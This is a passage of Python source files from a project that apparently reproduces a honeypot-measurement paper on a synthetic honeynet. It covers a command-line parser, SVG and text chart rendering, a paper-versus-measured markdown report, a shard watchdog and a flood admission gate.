        help="with --index: unconditionally damage the built index with "
        f"this mode ({', '.join(INDEX_CORRUPTION_MODES)}) — for smoke "
        "tests of the verify/rebuild/fallback paths",
    )
    faults.set_defaults(func=cmd_faults)

    stream = commands.add_parser(
        "stream",
        help="run the supervised stream engine and print the "
        "supervision report (see docs/streaming.md)",
    )
    _add_common(stream)
    stream.add_argument(
        "--stream-profile", choices=("replay", "live", "chaos"),
        default="live",
        help="stream policy preset: replay (batch, unsupervised), "
        "live (supervised, fault-free), chaos (elevated stream faults)",
    )
    stream.add_argument(
        "--online", action="store_true",
        help="feed stored command sessions through the incremental "
        "clusterer as they arrive (supervised profiles only)",
    )
    stream.add_argument(
        "--checkpoint", type=Path, default=None,
        help="checkpoint file to write (and resume from)",
    )
    stream.add_argument(
        "--checkpoint-every", type=int, default=None, metavar="DAYS",
        help="checkpoint cadence in simulated days (default 30)",
    )
    stream.add_argument(
        "--resume", action="store_true",
        help="resume from --checkpoint if it exists",
    )
    stream.add_argument(
        "--stop-after", type=date.fromisoformat, default=None, metavar="DATE",
        help="controlled stop after this simulated day (YYYY-MM-DD)",
    )
    stream.add_argument(
        "--verify-replay", action="store_true",
        help="also run the batch engine on the same config and fail "
        "unless digest and accounting are identical",
    )
    stream.set_defaults(func=cmd_stream)

    from repro.faults.service import SERVICE_PROFILES

    serve = commands.add_parser(
        "serve",
        help="serve an indexed artifact tree over the JSON-lines TCP "
        "query/status service (see docs/service.md)",
    )
    serve.add_argument(
        "path", type=Path,
        help="artifact tree directory (a --store/--export destination)",
    )
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument(
        "--port", type=int, default=8642,
        help="TCP port (0 = pick a free one; default 8642)",
    )
    serve.add_argument(
        "--service-policy", choices=("default", "strict"),
        default="default",
        help="overload-ladder preset (default: production-shaped)",
    )
    serve.add_argument(
        "--max-requests", type=int, default=None, metavar="N",
        help="stop after serving N requests (smoke tests); "
        "default: serve until interrupted",
    )
    serve.set_defaults(func=cmd_serve)

    loadtest = commands.add_parser(
        "loadtest",
        help="drive the seeded service load model (no sockets) and "
        "print the request-outcome ledger",
    )
    _add_common(loadtest)
    loadtest.add_argument(
        "--service-profile", choices=SERVICE_PROFILES, default="off",
        help="client fault preset (slow loris, disconnects, thundering "
        "herd, store errors, chaos; default off)",
    )
    loadtest.add_argument(
        "--service-policy", choices=("default", "strict"),
        default="default",
        help="overload-ladder preset the service runs under",
    )
    loadtest.add_argument(
        "--days", type=int, default=None, metavar="N",
        help="simulate only the first N days of the window for the "
        "backing store (default: the full window)",
    )
    loadtest.add_argument(
        "--clients", type=int, default=6,
        help="distinct client ids in the load model (default 6)",
    )
    loadtest.add_argument(
        "--ticks", type=int, default=15,
        help="load-model ticks (default 15)",
    )
    loadtest.add_argument(
        "--requests-per-tick", type=int, default=8, metavar="N",
        help="base requests per tick, herds excluded (default 8)",
    )
    loadtest.add_argument(
        "--json", type=Path, default=None, metavar="PATH",
        help="write the outcome document as JSON",
    )
    loadtest.add_argument(
        "--enforce", action="store_true",
        help="fail (exit 1) on contract violations: unserved requests "
        "or a non-deterministic replay",
    )
    loadtest.set_defaults(func=cmd_loadtest)

    verify = commands.add_parser(
        "verify",
        help="audit a dataset/checkpoint tree for integrity "
        "(manifests, checksums, quarantine coverage)",
    )
    verify.add_argument(
        "path", type=Path, nargs="?", default=Path("."),
        help="file or directory tree to audit (default: current directory)",
    )
    verify.add_argument(
        "--quarantine", type=Path, default=None, metavar="DIR",
        help="quarantine store to check losses against "
        "(default: <path>/quarantine)",
    )
    verify.add_argument(
        "--json", type=Path, default=None, metavar="PATH",
        help="also write the audit as JSON to this path",
    )
    verify.add_argument(
        "--rebuild-index", action="store_true",
        help="if the audit finds damaged index artifacts, rebuild "
        "index.sqlite from the verified shards and re-audit",
    )
    verify.set_defaults(func=cmd_verify)

    query = commands.add_parser(
        "query",
        help="query a persisted artifact tree via the indexed store "
        "(scan fallback when the index is damaged)",
    )
    query.add_argument(
        "path", type=Path,
        help="artifact tree directory (a --store/--export destination)",
    )
    query.add_argument("--day", default=None, help="UTC day, YYYY-MM-DD")
    query.add_argument("--sensor", default=None, help="honeypot sensor id")
    query.add_argument("--client-ip", default=None)
    query.add_argument("--protocol", default=None, choices=("ssh", "telnet"))
    query.add_argument(
        "--rule-label", default=None, help="Table-1 session category"
    )
    query.add_argument(
        "--by", default=None,
        choices=("day", "sensor_id", "client_ip", "protocol", "rule_label"),
        help="group matching sessions and print per-value counts",
    )
    query.add_argument(
        "--ids", action="store_true", help="also print matching session ids"
    )
    query.set_defaults(func=cmd_query)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    telemetry_path = getattr(args, "telemetry", None)
    # ``bench`` measures telemetry on-vs-off itself and the ``telemetry``
    # subcommand manages its own registry; everything else gets generic
    # collect-and-write handling here.
    if telemetry_path is None or args.command in ("bench", "telemetry"):
        return args.func(args)
    from repro import telemetry

    with telemetry.collecting() as registry:
        status = args.func(args)
    telemetry.write_telemetry_json(
        telemetry_path, registry, meta=_telemetry_meta(args)
    )
    print(f"wrote {telemetry_path}")
    return status


if __name__ == "__main__":
    raise SystemExit(main())
