"""Dependency-free SVG renderings of the regenerated figures.

matplotlib is not available offline, but SVG is just XML: these
renderers turn an experiment's structured rows into standalone figure
files (`repro.cli export --format svg`).  Layout is deliberately
simple — monthly bar charts and the cluster-distance heatmap cover the
paper's figure shapes.
"""

from __future__ import annotations

import math
from xml.sax.saxutils import escape

from repro.experiments.base import ExperimentResult
from repro.reporting.figures import _DEFAULT_VIEWS, _as_number, numeric_columns

#: Canvas geometry.
WIDTH = 900
HEIGHT = 420
MARGIN_LEFT = 70
MARGIN_BOTTOM = 70
MARGIN_TOP = 50
MARGIN_RIGHT = 20

#: Series colours (colour-blind-safe-ish).
BAR_COLOR = "#3b6fb6"
ACCENT_COLOR = "#b6503b"
TEXT_COLOR = "#222222"
GRID_COLOR = "#dddddd"


def _svg_document(body: list[str], width: int = WIDTH, height: int = HEIGHT) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" '
        f'height="{height}" viewBox="0 0 {width} {height}">\n'
        f'<rect width="{width}" height="{height}" fill="white"/>\n'
        + "\n".join(body)
        + "\n</svg>\n"
    )


def _text(
    x: float, y: float, content: str, size: int = 12, anchor: str = "start",
    rotate: float | None = None,
) -> str:
    transform = (
        f' transform="rotate({rotate} {x:.1f} {y:.1f})"' if rotate else ""
    )
    return (
        f'<text x="{x:.1f}" y="{y:.1f}" font-size="{size}" '
        f'font-family="sans-serif" fill="{TEXT_COLOR}" '
        f'text-anchor="{anchor}"{transform}>{escape(content)}</text>'
    )


def _nice_ticks(maximum: float, count: int = 5) -> list[float]:
    if maximum <= 0:
        return [0.0]
    raw_step = maximum / count
    magnitude = 10 ** math.floor(math.log10(raw_step))
    for multiplier in (1, 2, 5, 10):
        step = multiplier * magnitude
        if step >= raw_step:
            break
    ticks = []
    value = 0.0
    while value <= maximum + step / 2:
        ticks.append(value)
        value += step
    return ticks


def svg_bar_chart(
    result: ExperimentResult,
    label_column: int = 0,
    value_column: int | None = None,
    title: str | None = None,
) -> str:
    """A vertical bar chart of one numeric column against row labels."""
    numeric = numeric_columns(result)
    if value_column is None:
        if not numeric:
            raise ValueError(f"{result.experiment_id}: no numeric columns")
        header, _ = _DEFAULT_VIEWS.get(result.experiment_id, (None, False))
        if header in result.headers and result.headers.index(header) in numeric:
            value_column = result.headers.index(header)
        else:
            value_column = numeric[0]
    labels = [str(row[label_column]) for row in result.rows]
    values = [_as_number(row[value_column]) for row in result.rows]
    maximum = max(values, default=0.0) or 1.0

    plot_width = WIDTH - MARGIN_LEFT - MARGIN_RIGHT
    plot_height = HEIGHT - MARGIN_TOP - MARGIN_BOTTOM
    slot = plot_width / max(1, len(values))
    bar_width = max(1.0, slot * 0.8)

    body: list[str] = []
    chart_title = title or f"{result.experiment_id}: {result.title}"
    body.append(_text(MARGIN_LEFT, 24, chart_title, size=15))
    body.append(
        _text(MARGIN_LEFT, 40, f"y = {result.headers[value_column]}", size=11)
    )
    for tick in _nice_ticks(maximum):
        y = MARGIN_TOP + plot_height * (1 - tick / maximum)
        body.append(
            f'<line x1="{MARGIN_LEFT}" y1="{y:.1f}" '
            f'x2="{WIDTH - MARGIN_RIGHT}" y2="{y:.1f}" '
            f'stroke="{GRID_COLOR}" stroke-width="1"/>'
        )
        body.append(_text(MARGIN_LEFT - 6, y + 4, f"{tick:g}", 10, "end"))
    for index, (label, value) in enumerate(zip(labels, values)):
        x = MARGIN_LEFT + index * slot + (slot - bar_width) / 2
        bar_height = plot_height * (value / maximum)
        y = MARGIN_TOP + plot_height - bar_height
        body.append(
            f'<rect x="{x:.1f}" y="{y:.1f}" width="{bar_width:.1f}" '
            f'height="{bar_height:.1f}" fill="{BAR_COLOR}">'
            f"<title>{escape(label)}: {value:g}</title></rect>"
        )
        if len(labels) <= 40:
            body.append(
                _text(
                    x + bar_width / 2,
                    MARGIN_TOP + plot_height + 12,
                    label,
                    9,
                    "end",
                    rotate=-45,
                )
            )
    axis_y = MARGIN_TOP + plot_height
    body.append(
        f'<line x1="{MARGIN_LEFT}" y1="{axis_y}" '
        f'x2="{WIDTH - MARGIN_RIGHT}" y2="{axis_y}" '
        f'stroke="{TEXT_COLOR}" stroke-width="1"/>'
    )
    return _svg_document(body)


def svg_multi_line_chart(
    result: ExperimentResult,
    label_column: int = 0,
    value_columns: list[int] | None = None,
    title: str | None = None,
) -> str:
    """Several numeric columns as line series (the Figure 10 shape)."""
    numeric = value_columns or numeric_columns(result)
    if not numeric:
        raise ValueError(f"{result.experiment_id}: no numeric columns")
    labels = [str(row[label_column]) for row in result.rows]
    series = {
        result.headers[column]: [_as_number(row[column]) for row in result.rows]
        for column in numeric
    }
    maximum = max(
        (max(values, default=0.0) for values in series.values()), default=0.0
    ) or 1.0
    plot_width = WIDTH - MARGIN_LEFT - MARGIN_RIGHT
    plot_height = HEIGHT - MARGIN_TOP - MARGIN_BOTTOM
    step = plot_width / max(1, len(labels) - 1)

    palette = [BAR_COLOR, ACCENT_COLOR, "#3ba05c", "#8a5cb8", "#b89b3b"]
    body: list[str] = []
    body.append(
        _text(MARGIN_LEFT, 24, title or f"{result.experiment_id}: {result.title}", 15)
    )
    for tick in _nice_ticks(maximum):
        y = MARGIN_TOP + plot_height * (1 - tick / maximum)
        body.append(
            f'<line x1="{MARGIN_LEFT}" y1="{y:.1f}" '
            f'x2="{WIDTH - MARGIN_RIGHT}" y2="{y:.1f}" '
            f'stroke="{GRID_COLOR}"/>'
        )
        body.append(_text(MARGIN_LEFT - 6, y + 4, f"{tick:g}", 10, "end"))
    for series_index, (name, values) in enumerate(series.items()):
        color = palette[series_index % len(palette)]
        points = " ".join(
            f"{MARGIN_LEFT + i * step:.1f},"
            f"{MARGIN_TOP + plot_height * (1 - v / maximum):.1f}"
            for i, v in enumerate(values)
        )
        body.append(
            f'<polyline points="{points}" fill="none" stroke="{color}" '
            f'stroke-width="2"/>'
        )
        body.append(
            _text(WIDTH - MARGIN_RIGHT - 4, 40 + series_index * 14, name, 11, "end")
        )
        body.append(
            f'<rect x="{WIDTH - MARGIN_RIGHT - 120}" '
            f'y="{32 + series_index * 14}" width="10" height="10" '
            f'fill="{color}"/>'
        )
    for index in range(0, len(labels), max(1, len(labels) // 12)):
        x = MARGIN_LEFT + index * step
        body.append(
            _text(x, MARGIN_TOP + plot_height + 14, labels[index], 9, "middle")
        )
    return _svg_document(body)


def svg_heatmap(matrix, title: str = "", max_cells: int = 120) -> str:
    """A grayscale heatmap of a [0, 1] square matrix (Figure 5)."""
    import numpy as np

    values = np.asarray(matrix, dtype=float)
    n = values.shape[0]
    if n == 0:
        raise ValueError("empty matrix")
    step = max(1, math.ceil(n / max_cells))
    size = math.ceil(n / step)
    side = min(WIDTH, HEIGHT) - MARGIN_TOP - MARGIN_RIGHT
    cell = side / size
    body: list[str] = [_text(MARGIN_LEFT, 24, title or "distance matrix", 15)]
    for i in range(size):
        for j in range(size):
            block = values[i * step : (i + 1) * step, j * step : (j + 1) * step]
            value = float(block.mean())
            shade = int(255 * (1 - value))
            color = f"rgb({shade},{shade},{255 - (255 - shade) // 3})"
            body.append(
                f'<rect x="{MARGIN_LEFT + j * cell:.1f}" '
                f'y="{MARGIN_TOP + i * cell:.1f}" width="{cell + 0.5:.1f}" '
                f'height="{cell + 0.5:.1f}" fill="{color}"/>'
            )
    body.append(
        _text(
            MARGIN_LEFT,
            MARGIN_TOP + side + 16,
            "dark = low normalized DLD (similar sessions)",
            11,
        )
    )
    return _svg_document(body, width=WIDTH, height=MARGIN_TOP + side + 30)


def render_svg(result: ExperimentResult) -> str | None:
    """A default SVG for any experiment (None if not chartable)."""
    if not numeric_columns(result):
        return None
    numeric = numeric_columns(result)
    if result.experiment_id in ("fig10", "fig13") and len(numeric) >= 2:
        return svg_multi_line_chart(result)
    return svg_bar_chart(result)
