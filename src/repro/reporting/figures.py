"""Text renderings of the regenerated figures.

Terminal-friendly charts built from an experiment's structured rows —
the closest offline equivalent of the paper's plots.  ``render_figure``
picks a sensible default view for any experiment; the lower-level
helpers can be pointed at specific columns.
"""

from __future__ import annotations

import math

from repro.experiments.base import ExperimentResult
from repro.util.text import ascii_bar

#: Width of the bar area in characters.
BAR_WIDTH = 44


def _is_number(value: object) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, (int, float)):
        return True
    if isinstance(value, str):
        try:
            float(value)
        except ValueError:
            return False
        return True
    return False


def _as_number(value: object) -> float:
    return float(value)  # type: ignore[arg-type]


def numeric_columns(result: ExperimentResult) -> list[int]:
    """Indexes of columns whose every value is numeric."""
    if not result.rows:
        return []
    columns = []
    for index in range(len(result.headers)):
        values = [row[index] for row in result.rows if index < len(row)]
        if values and all(_is_number(v) for v in values):
            columns.append(index)
    return columns


def bar_chart(
    result: ExperimentResult,
    label_column: int,
    value_column: int,
    log_scale: bool = False,
    max_rows: int = 40,
) -> str:
    """One horizontal bar per row for the chosen columns."""
    rows = result.rows[:max_rows]
    if not rows:
        return "(no data)"
    labels = [str(row[label_column]) for row in rows]
    raw_values = [_as_number(row[value_column]) for row in rows]
    if log_scale:
        plotted = [math.log10(v + 1) for v in raw_values]
    else:
        plotted = raw_values
    maximum = max(plotted) if plotted else 0.0
    label_width = max(len(label) for label in labels)
    header = (
        f"{result.headers[value_column]}"
        + (" (log scale)" if log_scale else "")
    )
    lines = [f"[{result.experiment_id}] {header}"]
    for label, shown, raw in zip(labels, plotted, raw_values):
        bar = ascii_bar(shown, maximum, BAR_WIDTH)
        lines.append(f"{label.ljust(label_width)} |{bar} {raw:g}")
    if len(result.rows) > max_rows:
        lines.append(f"... ({len(result.rows) - max_rows} more rows)")
    return "\n".join(lines)


def multi_series_chart(
    result: ExperimentResult,
    label_column: int,
    value_columns: list[int],
    max_rows: int = 40,
) -> str:
    """Several numeric columns side by side, one bar block per column.

    The per-month multi-password view of Figure 10, for example.
    """
    rows = result.rows[:max_rows]
    if not rows or not value_columns:
        return "(no data)"
    lines = []
    for column in value_columns:
        lines.append(bar_chart(result, label_column, column, max_rows=max_rows))
        lines.append("")
    return "\n".join(lines).rstrip()


#: Shading ramp for ASCII heatmaps (low → high values).
_HEAT_RAMP = " .:-=+*#%@"


def ascii_heatmap(
    matrix, max_cells: int = 48, title: str = ""
) -> str:
    """A downsampled ASCII heatmap of a square matrix (Figure 5's view).

    Values are expected in [0, 1]; each cell becomes one character from
    a ten-step shading ramp.  Large matrices are block-averaged down to
    at most ``max_cells`` per side.
    """
    import numpy as np

    values = np.asarray(matrix, dtype=float)
    n = values.shape[0]
    if n == 0:
        return "(empty matrix)"
    step = max(1, math.ceil(n / max_cells))
    size = math.ceil(n / step)
    blocks = np.zeros((size, size))
    for i in range(size):
        for j in range(size):
            block = values[i * step : (i + 1) * step, j * step : (j + 1) * step]
            blocks[i, j] = float(block.mean())
    lines = []
    if title:
        lines.append(title)
    ramp_top = len(_HEAT_RAMP) - 1
    for row in blocks:
        lines.append(
            "".join(
                _HEAT_RAMP[min(ramp_top, int(value * ramp_top + 0.5))]
                for value in row
            )
        )
    lines.append(f"(shading: ' '=0.0 … '@'=1.0; {n}x{n} → {size}x{size})")
    return "\n".join(lines)


#: Per-experiment default views: (value column header, log scale).
_DEFAULT_VIEWS: dict[str, tuple[str, bool]] = {
    "fig01": ("non-state total", False),
    "fig02": ("sessions", False),
    "fig03a": ("sessions", False),
    "fig03b": ("sessions", False),
    "fig04a": ("sessions", False),
    "fig04b": ("sessions", False),
    "fig06": ("file sessions", False),
    "fig10": ("3245gs5662d34", False),
    "fig11": ("phil logins", True),
    "fig12": ("mean sessions/day", True),
    "fig13": ("mdrfckr-initial", True),
    "fig15": ("sessions", False),
    "fig16": ("unique cmds (file missing)", False),
    "ext_sensor_coverage": ("ssh sessions", False),
}


def render_figure(result: ExperimentResult) -> str:
    """A default chart for any experiment (empty string if impossible)."""
    numeric = numeric_columns(result)
    if not numeric:
        return ""
    header, log_scale = _DEFAULT_VIEWS.get(result.experiment_id, (None, False))
    if header is not None and header in result.headers:
        column = result.headers.index(header)
        if column not in numeric:
            column = numeric[0]
    else:
        column = numeric[0]
    return bar_chart(result, 0, column, log_scale=log_scale)
