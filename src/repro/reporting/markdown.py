"""Markdown rendering of experiment results (EXPERIMENTS.md generator)."""

from __future__ import annotations

from repro.config import SimulationConfig
from repro.experiments.base import ExperimentResult

#: Per-experiment paper-side summary lines for the comparison document.
PAPER_EXPECTATIONS: dict[str, str] = {
    "table_stats": "635M sessions (546M SSH, 850K IPs); scanning 45M / "
                   "scouting 258M / intrusion 80M / command-exec 163M",
    "fig01": "both session types comparable 2021-2022 with an early-2022 "
             "spike; non-state sessions clearly increase from early 2023",
    "fig02": "echo_OK alone >80% of non-state sessions; top-3 >95%; "
             "wave-like scouts (bbox_scout_cat, uname_a) vs constant ones",
    "fig03a": "mdrfckr >90% of no-exec state modification; >500k "
              "sessions/month; curl_maxred wave Jan-Apr 2024",
    "fig03b": "top-3 exec bots ≈50%; bbox_unlabelled ends abruptly "
              "mid-2022; volumes decline from late 2022",
    "fig04a": "3M file-exists sessions; >100k/month in 2022 collapsing "
              "to ~5k/month from 2023",
    "fig04b": "12M file-missing sessions (scp/ftp/rsync evasion); 4:1 "
              "missing-to-exists ratio",
    "fig05": "90 clusters via elbow+silhouette; clusters ordered by "
             "token count; block-diagonal DLD structure",
    "fig06": "C-1 (mixed) and C-6 (XorDDoS) continuous; C-2 (Gafgyt) / "
             "C-3 (Mirai) in waves; XorDDoS stops early 2024; Mirai "
             "resurges spring 2024 (Corona/Kyton/Ares)",
    "fig07": "80% of downloads use a storage IP ≠ client IP; clients in "
             "ISP/NSP space, storage in Hosting/CDN; 32k clients vs 3k "
             "storage IPs",
    "fig08a": ">35% of sessions use an AS registered <1 year before; "
              ">70% <5 years",
    "fig08b": "~20% of storage ASes announce a single /24; ~50% fewer "
              "than fifty",
    "fig09": "1-week recall: 50% of IPs active one day, 20% ≤4 days, "
             "~30% the full week; ~25% of IPs reappear after ≥6 months",
    "fig10": "3245gs5662d34 tops the chart (24M sessions from 125k IPs "
             "starting 2022-12-08 18:00); dreambox and vertex25ektks123 "
             "synchronized (one TV-box botnet)",
    "fig11": "~30k phil logins from >10k IPs in >1k ASes; >90% issue no "
             "command (honeypot fingerprinting); richard always fails",
    "fig12": "~100k sessions/day from ~7k IPs; eight documented event "
             "windows with collapses to ~100/day; base64 uploads "
             "(cryptominer/shellbot/cleanup) from 1,624 one-shot IPs; "
             "8 C2 IPs; 988 Killnet-overlap IPs; key on >13k servers "
             "(Shadowserver)",
    "fig13": "variant and credential campaign both start 2022-12-08; "
             "variant ≥10x smaller; 99.4% client-IP overlap",
    "fig14": "info-gathering categories form a separate low-distance "
             "block in the inter-category DLD matrix",
    "fig15": "4 client IPs → 180 honeypots; ~200k sessions, ~100 curls "
             "each (~20M requests); unique cookie per request; >100 "
             "RU/UA targets",
    "fig16": "file-missing sessions show more unique commands than "
             "file-exists; Mirai spikes early-2022 and Dec-2022",
    "fig17": "Hosting ASes dominate storage throughout; sporadic "
             "ISP/NSP and CDN appearances",
    "table1": "58 regex categories + unknown; >99% of 162M command "
              "sessions classified",
    "ext_stateful": "(extension) section 10 proposes persistent storage "
                    "so honeypots survive consistency probes",
    "ext_ablation_tokenizer": "(ablation) section 6 claims token-level "
                              "DLD is robust to IP/filename obfuscation",
    "ext_ablation_ruleorder": "(ablation) Table 1 evaluates "
                              "actor-specific signatures before the "
                              "generic gen_* combinations",
    "ext_ablation_detection": "(ablation) sections 9-10 detect "
                              "low-activity windows against a rolling "
                              "baseline",
    "ext_baseline_clustering": "(baseline) the paper picks K-Means over "
                               "the DLD matrix; hierarchical clustering "
                               "is the standard alternative",
    "ext_sensor_coverage": "(extension) sections 3.1/10 describe 221 "
                           "sensors in 55 countries with coverage gaps; "
                           "only curl_maxred targets a sensor subset",
    "ext_validation": "(validation) the regex pipeline should recover "
                      "the generative ground truth it never sees",
}


def result_to_markdown(result: ExperimentResult, max_rows: int = 8) -> str:
    """One experiment as a markdown section."""
    lines = [f"### {result.experiment_id} — {result.title}", ""]
    expectation = PAPER_EXPECTATIONS.get(result.experiment_id)
    if expectation:
        lines.append(f"**Paper:** {expectation}")
        lines.append("")
    lines.append("**Measured (this run):**")
    lines.extend(f"- {note}" for note in result.notes)
    if result.rows:
        lines.append("")
        lines.append("| " + " | ".join(result.headers) + " |")
        lines.append("|" + "---|" * len(result.headers))
        shown = result.rows[:max_rows]
        for row in shown:
            lines.append("| " + " | ".join(str(c) for c in row) + " |")
        if len(result.rows) > max_rows:
            lines.append(f"| … ({len(result.rows) - max_rows} more rows) |" )
    lines.append("")
    return "\n".join(lines)


def experiments_markdown(
    results: dict[str, ExperimentResult], config: SimulationConfig
) -> str:
    """The full EXPERIMENTS.md document body."""
    header = [
        "# EXPERIMENTS — paper vs. measured",
        "",
        "Regenerated by `python -m repro.reporting.generate` "
        "(every table and figure of the paper's evaluation).",
        "",
        f"Run configuration: `seed={config.seed}`, `scale={config.scale}` "
        f"(measured counts are ≈ scale × paper counts), window "
        f"{config.start} … {config.end}, {config.n_honeypots} honeypots.",
        "",
        "Absolute numbers are not expected to match — the substrate is a "
        "synthetic honeynet at a reduced scale.  The comparisons below "
        "check the *shape*: who dominates, by roughly what factor, and "
        "where the temporal breaks fall.",
        "",
    ]
    body = [result_to_markdown(results[eid]) for eid in results]
    return "\n".join(header) + "\n" + "\n".join(body)
