"""CLI: regenerate EXPERIMENTS.md from a full experiment run.

Usage:  python -m repro.reporting.generate [--scale 1e-4] [--out EXPERIMENTS.md]
"""

from __future__ import annotations

import argparse
from pathlib import Path

from repro.config import BENCH_CONFIG, SimulationConfig
from repro.experiments.runner import run_all
from repro.reporting.markdown import experiments_markdown


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=BENCH_CONFIG.scale)
    parser.add_argument("--seed", type=int, default=BENCH_CONFIG.seed)
    parser.add_argument("--out", type=Path, default=Path("EXPERIMENTS.md"))
    args = parser.parse_args()
    config = SimulationConfig(scale=args.scale, seed=args.seed)
    results = run_all(config=config)
    args.out.write_text(experiments_markdown(results, config))
    print(f"wrote {args.out} ({len(results)} experiments)")


if __name__ == "__main__":
    main()
