"""Report rendering: markdown comparison documents, text tables."""

from repro.reporting.figures import bar_chart, multi_series_chart, numeric_columns, render_figure
from repro.reporting.markdown import (
    PAPER_EXPECTATIONS,
    experiments_markdown,
    result_to_markdown,
)

__all__ = [
    "bar_chart",
    "multi_series_chart",
    "numeric_columns",
    "render_figure",
    "PAPER_EXPECTATIONS",
    "experiments_markdown",
    "result_to_markdown",
]
