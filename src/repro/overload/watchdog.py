"""Shard deadlines for the hung-worker watchdog.

A crashed worker announces itself; a *hung* worker just stops.  The
parallel engine's defence is a pair of per-shard deadlines derived from
one configured hard limit:

* **soft** (``soft_fraction`` of the hard limit) — the watchdog notes
  the breach (``overload.watchdog.soft_breaches``) and keeps waiting; a
  slow shard is not yet a dead shard.
* **hard** — the watchdog cancels the attempt, counts the breach, and
  feeds the shard to the same bounded-retry → serial-fallback ladder
  that salvages crashed shards.  A hung shard therefore never blocks
  the run past its hard deadline.

The deadline is an *execution* knob like the worker count: it can
change which code path produced a record batch, never the bytes in it,
so it is excluded from config fingerprints and dataset cache keys.

This module must not import :mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass


class ShardDeadlineExceeded(RuntimeError):
    """A shard attempt overran its hard deadline and was cancelled."""


@dataclass(frozen=True)
class DeadlinePolicy:
    """Soft/hard wall-clock deadlines for one shard attempt."""

    hard_s: float
    soft_fraction: float = 0.5

    def __post_init__(self) -> None:
        if self.hard_s <= 0.0:
            raise ValueError("hard_s must be positive")
        if not 0.0 < self.soft_fraction <= 1.0:
            raise ValueError("soft_fraction must be in (0, 1]")

    @property
    def soft_s(self) -> float:
        """Seconds after which a still-running shard is worth a warning."""
        return self.hard_s * self.soft_fraction

    @classmethod
    def from_deadline(cls, hard_s: float | None) -> "DeadlinePolicy | None":
        """The policy for a configured ``shard_deadline_s``, or ``None``."""
        if hard_s is None:
            return None
        return cls(hard_s=float(hard_s))
