"""Bounded ingest: a per-day admission budget with priority-aware shedding.

The collector normally accepts every delivered record.  Under a scan
flood that assumption breaks — the paper's collector absorbed bursts of
millions of sessions per day — so the admission gate bounds what a
simulated day may store and sheds the excess *deterministically*:

* Records are classified by how much state they carry
  (:func:`record_priority`): sessions that downloaded files rank above
  sessions that ran commands, which rank above scanner no-ops.
* While the day's budget lasts, everything is admitted.
* Past the budget, no-ops are shed outright; command sessions survive a
  seeded per-session coin (keyed by session id, so the decision is
  independent of arrival order); file-event sessions are always worth
  keeping and are deferred.
* Survivors wait in a bounded per-sensor deferral queue; a full queue
  sheds.  At the end of the day the queues drain in sorted sensor-id
  order — deferral delays a record within its day, it never loses one —
  and the budget resets.

Because the budget is per *day* and every simulated day lives inside
exactly one shard, the gate's decisions are identical however the
window is sharded: admission is a pure function of (day's records,
seeded coins), which is what keeps the serial and parallel engines
digest-equal under flood.

The supervised stream engine (:mod:`repro.stream`) additionally feeds
queue-depth backpressure into the gate via :meth:`apply_backpressure`:
high pressure halves the effective budget, critical pressure zeroes it.
Batch runs never apply pressure, so their verdicts are unchanged.

This module must not import :mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.faults.plan import FloodFaults
from repro.util.rng import RngTree

if TYPE_CHECKING:
    from repro.honeypot.session import SessionRecord

#: Admission verdicts returned by :meth:`AdmissionController.offer`.
ADMIT = "admit"
DEFER = "defer"
SHED = "shed"

#: Backpressure levels fed in by the stream engine
#: (:mod:`repro.stream.queues` exports the matching ``LEVEL_*`` names).
PRESSURE_NONE = 0
PRESSURE_HIGH = 1
PRESSURE_CRITICAL = 2


def record_priority(record: "SessionRecord") -> int:
    """How much observable state a session carries (higher = keep).

    2 — downloaded or uploaded files (the rarest, most valuable class);
    1 — ran commands; 0 — a scanner no-op (connect, maybe fail auth,
    leave).  The shed policy keeps state-changing sessions and drops
    no-ops first, mirroring what a real collector's sampling would do.
    """
    if record.file_events:
        return 2
    if record.commands:
        return 1
    return 0


@dataclass
class AdmissionController:
    """The per-day admission gate for one collector.

    Stateful across one simulated day: :meth:`offer` hands out verdicts
    while the day runs, :meth:`drain` releases the deferral queues and
    resets the budget at the day boundary.  All shed coins come from
    ``tree.child(session id)``, so verdicts are a pure function of the
    record — never of arrival order or interleaving.
    """

    budget: int
    queue_capacity: int
    shed_probability: float
    tree: RngTree
    _admitted_today: int = field(default=0, init=False, repr=False)
    _queues: dict[str, list["SessionRecord"]] = field(
        default_factory=dict, init=False, repr=False
    )
    #: Backpressure level currently applied by the stream engine's
    #: supervision layer; 0 outside supervised streams, so the batch
    #: engines never see a shrunk budget.
    _pressure: int = field(default=PRESSURE_NONE, init=False, repr=False)

    def apply_backpressure(self, level: int) -> None:
        """Set the stream supervision backpressure level.

        ``PRESSURE_HIGH`` halves the effective daily budget;
        ``PRESSURE_CRITICAL`` zeroes it (every record faces the shed
        policy until pressure is released).  The deterministic part of
        the verdict machinery — priority classes, seeded per-session
        coins, bounded deferral queues — is untouched, so shedding
        under pressure stays a pure function of (records, coins,
        pressure schedule).
        """
        if level not in (PRESSURE_NONE, PRESSURE_HIGH, PRESSURE_CRITICAL):
            raise ValueError(f"unknown backpressure level {level!r}")
        self._pressure = level

    def _effective_budget(self) -> int:
        if self._pressure >= PRESSURE_CRITICAL:
            return 0
        if self._pressure == PRESSURE_HIGH:
            return self.budget // 2
        return self.budget

    def offer(self, record: "SessionRecord") -> str:
        """The gate's verdict for ``record``: ADMIT, DEFER or SHED."""
        if self._admitted_today < self._effective_budget():
            self._admitted_today += 1
            return ADMIT
        priority = record_priority(record)
        if priority == 0:
            return SHED
        if priority == 1:
            if self.tree.coin(record.session_id) < self.shed_probability:
                return SHED
        queue = self._queues.setdefault(record.honeypot_id, [])
        if len(queue) >= self.queue_capacity:
            return SHED
        queue.append(record)
        return DEFER

    def drain(self) -> list["SessionRecord"]:
        """Release every deferred record and reset the day's budget.

        Records come back grouped by sensor in sorted sensor-id order,
        FIFO within a sensor — a deterministic order independent of how
        the day's arrivals interleaved across sensors.
        """
        out: list["SessionRecord"] = []
        for honeypot_id in sorted(self._queues):
            out.extend(self._queues[honeypot_id])
        self._queues.clear()
        self._admitted_today = 0
        return out


def build_admission_controller(
    faults: FloodFaults | None, tree: RngTree
) -> AdmissionController | None:
    """An admission gate for one collector, or ``None`` when unbounded."""
    if faults is None or not faults.gates:
        return None
